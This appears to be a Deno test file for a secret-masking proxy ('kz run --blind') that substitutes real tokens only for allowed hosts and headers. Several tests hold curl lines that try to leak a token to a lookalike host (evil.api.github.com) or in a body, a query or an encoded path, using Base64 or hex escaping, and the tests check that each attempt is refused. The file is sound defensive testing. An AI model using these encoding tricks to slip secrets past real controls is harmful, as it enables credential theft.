/** Secrets that name a service, and tokens of a shape, on the whole program. */
import assert from "node:assert/strict";
import { makeBlindProject } from "./support/blind_project.ts";
import { ROOT } from "./support/kz.ts";
import { hasProgram } from "./support/programs.ts";
import { assertNoLeak, makeCanary, makeProject } from "./support/project.ts";
import { withoutDeno } from "./support/without_deno.ts";

// requirement: P-1.6

const CURL = Deno.build.os !== "windows" && hasProgram("curl");

function curlTest(name: string, fn: () => Promise<void>): void {
  Deno.test({ name: `kz run --blind ${name}`, ignore: !CURL, fn });
}

const GITHUB = { host: "api.github.com", fields: 'service = "github"' };

curlTest("sends the secret of a service to its host, where the service has it", async () => {
  await using blind = await makeBlindProject({ ...GITHUB, names: ["api.github.com"] });
  const { status, stdout, stderr } = await blind.shell(`curl -s -H "Authorization: Bearer $API_TOKEN" \\
    https://api.github.com/user; curl -s -u "x-access-token:$API_TOKEN" https://api.github.com/user`);
  assert.equal(status, 0, stderr);
  const [bearer, basic] = blind.upstream.seen.map(({ headers }) => headers["authorization"]);
  assert.equal(bearer, `Bearer ${blind.value}`);
  assert.equal(basic, `Basic ${btoa(`x-access-token:${blind.value}`)}`);
  assertNoLeak(blind.value, stdout + stderr, "what the child saw");
});

const misplaced: [why: string, curl: string, code: string][] = [
  ["in another header", '-H "X-Api-Key: $API_TOKEN" https://api.github.com/', "PROXY_TOKEN_MISPLACED"],
  ["in the query", '"https://api.github.com/?access_token=$API_TOKEN"', "PROXY_TOKEN_MISPLACED"],
  ["in a body", '-d "$API_TOKEN" https://api.github.com/gists', "PROXY_TOKEN_MISPLACED"],
  ["for another host", '-H "Authorization: Bearer $API_TOKEN" https://other.test/', "POLICY_SECRET_HOST_DENIED"],
  [
    "for a host below its own",
    '-H "Authorization: Bearer $API_TOKEN" https://evil.api.github.com/',
    "POLICY_SECRET_HOST_DENIED",
  ],
];
for (const [why, curl, code] of misplaced) {
  curlTest(`refuses the secret of a service ${why}`, async () => {
    await using blind = await makeBlindProject({
      ...GITHUB,
      names: ["api.github.com", "other.test", "evil.api.github.com"],
    });
    const { stdout, stderr } = await blind.shell(`curl -s ${curl}`);
    assert.ok(stderr.includes(`refused[${code}]`), stderr);
    assert.deepEqual(blind.upstream.seen, []);
    assertNoLeak(blind.value, stdout + stderr, "the refusal");
  });
}

curlTest("does not open a host because a service has it: the connection rules still decide", async () => {
  await using blind = await makeBlindProject({ ...GITHUB, names: ["other.test"] });
  const { stderr } = await blind.shell('curl -s -H "Authorization: Bearer $API_TOKEN" https://api.github.com/');
  assert.match(stderr, /refused\[POLICY_HOST_DENIED\]: CONNECT api\.github\.com:443/);
  assert.deepEqual(blind.upstream.seen, []);
});

const shapes: [shape: string, expected: RegExp][] = [
  ["github", /^ghp_[A-Za-z0-9]{36}$/],
  ["jwt", /^eyJ[\w-]+\.eyJ[\w-]+\.[\w-]{43}$/],
  ["slack-bot", /^xoxb-\d{12}-\d{13}-[A-Za-z0-9]{24}$/],
  ["uuid", /^[0-9a-f]{8}(?:-[0-9a-f]{4}){3}-[0-9a-f]{12}$/],
  ["SG.{alnum:22}.{alnum:43}", /^SG\.[A-Za-z0-9]{22}\.[A-Za-z0-9]{43}$/],
  ["masked", /^kz_masked_[0-9a-f]{32}$/],
];
for (const [shape, expected] of shapes) {
  curlTest(`swaps a token of the shape ${shape}, and gives it back in the answer`, async () => {
    const other = makeCanary("other");
    await using blind = await makeBlindProject({
      fields: `shape = "${shape}"`,
      secrets: `SECOND = { provider = "env", ref = "SECOND_SOURCE", shape = "${shape}" }`,
    });
    const script = `echo "$API_TOKEN $SECOND"
      curl -s -H "Authorization: Bearer $API_TOKEN" -H "X-Key: a.$SECOND-$API_TOKEN" https://api.test/
      echo; curl -s -u "user:$API_TOKEN" https://api.test/`;
    const { status, stdout, stderr } = await blind.shell(script, { env: { SECOND_SOURCE: other } });
    assert.equal(status, 0, stderr);
    const [tokens = "", plain = "", basic = ""] = stdout.split("\n");
    const [token = "", second = ""] = tokens.split(" ");
    assert.match(token, expected);
    assert.match(second, expected);
    assert.notEqual(token, second);
    const [sent, sentBasic] = blind.upstream.seen;
    assert.equal(sent?.headers["authorization"], `Bearer ${blind.value}`);
    assert.equal(sent?.headers["x-key"], `a.${other}-${blind.value}`);
    assert.equal(sentBasic?.headers["authorization"], `Basic ${btoa(`user:${blind.value}`)}`);
    // What the host echoes comes back as the child wrote it.
    assert.equal(JSON.parse(plain).headers["x-key"], `a.${second}-${token}`);
    for (const value of [blind.value, other]) assertNoLeak(value, plain + basic + stderr, "what the child saw");
  });
}

const copies: [why: string, curl: string][] = [
  ["in a body", '-d "$API_TOKEN"'],
  ["in a body, in Base64", `-d "$(printf %s "$API_TOKEN" | base64 | tr -d '\\n')"`],
  ["in the query", '--url "https://api.test/?a=$API_TOKEN"'],
  [
    "in the path, escaped",
    "--url \"https://api.test/$(printf %s \"$API_TOKEN\" | od -An -tx1 | tr -d '\\n' | sed 's/ /%/g')\"",
  ],
];
for (const [why, curl] of copies) {
  curlTest(`refuses a copy of a shaped token ${why} (as TM-05)`, async () => {
    await using blind = await makeBlindProject({ fields: 'shape = "github"' });
    const { stderr } = await blind.shell(
      `curl -s -H "Authorization: Bearer $API_TOKEN" ${curl} ${curl.includes("--url ") ? "" : "https://api.test/"}`,
    );
    assert.match(stderr, /refused\[PROXY_TOKEN_MISPLACED\]/);
    assert.deepEqual(blind.upstream.seen, []);
  });
}

Deno.test("kz run stops at a service that is unknown, and names the nearest [F-3.6]", async () => {
  const canary = makeCanary();
  await using project = await makeProject({
    toml: `[secrets]\nA = { provider = "env", ref = "A", service = "gihtub", shape = "${canary}" }\n`,
  });
  const { status, stdout, stderr } = await project.kz(["validate"]);
  assert.equal(status, 3);
  assert.match(withoutDeno(stderr), /CONFIG_SERVICE_UNKNOWN\]: .*secrets\.A\.service: this service is unknown/);
  assert.match(stderr, /Did you mean "github"\?/);
  assert.match(stderr, /CONFIG_SHAPE_INVALID/);
  assertNoLeak(canary, stdout + stderr, "the messages");
});

Deno.test("the catalogue of services is not loaded with the configuration's reader: start-up counts", async () => {
  const { success, stdout } = await new Deno.Command(Deno.execPath(), {
    args: ["info", "--json", `${ROOT}cli/config/load.ts`],
    stderr: "inherit",
  }).output();
  assert.ok(success);
  const { modules, roots } = JSON.parse(new TextDecoder().decode(stdout)) as {
    roots: string[];
    modules: { specifier: string; dependencies?: { isDynamic?: boolean; code?: { specifier?: string } }[] }[];
  };
  const byName = new Map(modules.map((module) => [module.specifier, module.dependencies ?? []]));
  const loaded = new Set(roots);
  for (const name of loaded) {
    for (const { isDynamic, code } of byName.get(name) ?? []) {
      if (isDynamic !== true && code?.specifier !== undefined) loaded.add(code.specifier);
    }
  }
  const policy = [...loaded].filter((name) => name.includes("/policy/")).map((name) =>
    name.replace(/.*\/policy\//, "")
  );
  assert.ok(policy.includes("service_name.ts"), policy.join());
  assert.deepEqual(policy.filter((name) => name.startsWith("services")), []);
});
